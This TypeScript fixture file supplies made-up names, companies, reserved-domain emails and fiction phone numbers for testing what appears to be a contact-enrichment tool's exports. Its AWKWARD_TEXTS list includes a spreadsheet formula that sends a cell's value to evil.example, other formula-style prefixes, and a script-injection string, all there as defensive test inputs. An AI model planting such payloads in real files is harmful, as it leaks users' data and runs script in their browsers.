// Made-up people and companies: domains are reserved names (RFC 2606), and telephone numbers are those that regulators
// keep for fiction, so nothing real is ever named. Any change of a list changes answers.

type Words = readonly [string, ...string[]];

function listed(text: string): Words {
  const [first = '', ...others] = text.split('|').map((word) => word.trim());
  return [first, ...others];
}

export const FIRST_NAMES = listed(`
  Jane | Ada | Noël | Zoë | Mateo | Ingrid | Kwame | Priya | Yuki | Søren | Łucja | Omar | Chloé | Bao |
  Anne-Marie | Tom`);

export const LAST_NAMES = listed(`
  Doe | García | O'Brien | Müller | van der Berg | Nguyen | Strauß | Okafor | Tanaka | Ødegård | Iyer | Kowalska |
  Haddad | Dupont-Leroy | Smith | Li`);

export const COMPANY_NAMES = listed(`
  Northwind Freight | Blue Heron Labs | Café Lumière | Quarry & Sons | Öresund Kraft | Pale Fox | Tessellate |
  Grünwald Optik | Santa Rosa Foods | Kiteworks Studio | Lantern Health | Harbour 9`);

export const CITIES = listed(`
  Paris, Île-de-France, France | São Paulo, Brazil | Austin, Texas, United States | Zürich, Switzerland |
  Osaka, Japan | Nairobi, Kenya | Leeds, England, United Kingdom | Malmö, Sweden`);

export const INDUSTRIES = listed(`
  Software Development | Food & Beverages | Oil, Gas, and Mining | Hospital & Health Care |
  Logistics and Supply Chain | Higher Education | Arts & Crafts`);

export const TITLES = listed(`
  Head of Sales | Software Engineer | VP Marketing, EMEA | Founder & CEO | Account Executive | Directrice générale |
  Data Analyst | Chief of Staff | Werkstudent (m/w/d)`);

export const SKILLS = listed(`
  Negotiation | SQL | C++ | Public Speaking | Forecasting | Cold Calling | Node.js | Gestion de projet | Copywriting`);

export const LANGUAGES: Words = ['English', 'French', 'German', 'Español', '日本語', 'العربية'];

export const SENTENCES: Words = [
  'We help small teams ship sooner.',
  'Built the region from zero to forty customers in three years.',
  'I like maps, slow trains and well-kept spreadsheets.',
  'Responsible for budget, hiring and the occasional miracle.',
  'Family business since 1921; still run from the same street.',
  'Previously in research, now in the field.',
];

export const COMPANY_SIZES: Words = ['1-10', '11-50', '51-200', '201-500', '1001-5000', '10001+'];

export const COMPANY_TYPES = listed('Privately Held | Public Company | Nonprofit | Partnership');

/** The parts before the @; `{initial}` is the first letter of the first name. */
export const LOCAL_PARTS = listed(`
  {first}.{last} | {first}.{last} | {initial}.{last} | {initial}{last} | {first}_{last} | {last}.{first} | {first}`);

/** Domains other than that of the inputs, on which real platforms find some addresses. */
export const OTHER_DOMAINS: Words = [
  '{firm}-group.example',
  '{firm}-holding.example',
  'old-{firm}.example',
];

/** The share of each status; the rest is `unknown`. */
export const FOUND_STATUSES = { deliverable: 0.86, risky: 0.08, unknown: 0.06 } as const;
export const VERIFIED_STATUSES = {
  deliverable: 0.74,
  undeliverable: 0.1,
  risky: 0.08,
  unknown: 0.08,
} as const;

/** Numbers in international format; each # is a digit. */
export const PHONES: Words = ['+1 202 555 01##', '+44 7700 900###', '+33 1 99 00 ## ##'];

export const ERRORS: Words = [
  'The profile could not be read.',
  'A data source did not answer in time.',
  'The enrichment was stopped; nothing was charged.',
];

/** Text as people really write it, and as it breaks tables: every kind that an output file has to survive. */
export const AWKWARD_TEXTS: Words = [
  // Accents, composed and decomposed.
  '{text} — Ångström & Œuvre, Łódź',
  '{text} Zoe\u0308',
  // Emoji, other scripts, and a direction override.
  '🚀 {text} 👩‍💻🇫🇷',
  '{text}（東京本社・营销部）',
  '{text} مدير المبيعات – מנהל',
  '\u202e{text}\u202c',
  // Quotes, separators and line ends.
  `"{text}" aka 'the ''one''' ""`,
  '{text}, Inc.; a, b\tand c|d',
  '{text}\nsecond line',
  '{text}\r\nsecond line\r\n',
  '{text}\u2028next\u00a0line\u200b',
  // Text that a spreadsheet takes for a formula.
  '=HYPERLINK("https://evil.example/?x="&A1,"{text}")',
  '+1+1 {text}',
  '-2+3 {text}',
  '@SUM(1,1) {text}',
  // Space around the text, HTML, and text that a spreadsheet takes for a number or a date.
  '  {text}  ',
  '<b>{text}</b><script>alert("x")</script>&amp;',
  '007',
  '1-2',
];
